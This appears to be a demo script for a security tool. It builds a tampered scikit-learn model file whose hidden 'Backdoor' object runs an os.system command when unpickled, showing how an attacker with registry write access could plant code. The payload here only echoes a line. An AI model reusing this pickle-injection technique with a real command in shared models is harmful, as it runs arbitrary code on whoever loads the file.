"""Prepare the demo: train the model if it is missing, then write a *tampered* copy of it that
carries a harmless payload (it only echoes a line when loaded), as an attacker who got write
access to the model registry would. The tampered copy is never committed.

    python build_demo.py
"""

from __future__ import annotations

import os
import sys
from pathlib import Path

import joblib

HERE = Path(__file__).parent
MODEL = HERE / "model" / "credit_model.joblib"
TAMPERED = HERE / "model" / "tampered" / "credit_model.joblib"
PAYLOAD = "echo 'bastion demo: this command ran when the tampered model was loaded'"


class Backdoor:
    """Pickles as a call to os.system: unpickling the model runs the command."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (os.system, (PAYLOAD,))


def main() -> None:
    if not MODEL.exists():
        sys.path.insert(0, str(HERE))
        import train

        train.main()
    pipeline = joblib.load(MODEL)  # our own, trusted model
    pipeline.steps[-1][1]._telemetry = Backdoor()  # rides along on the last estimator
    TAMPERED.parent.mkdir(exist_ok=True)
    joblib.dump(pipeline, TAMPERED)
    print(f"wrote tampered copy {TAMPERED.relative_to(HERE)} (harmless payload)")


if __name__ == "__main__":
    main()
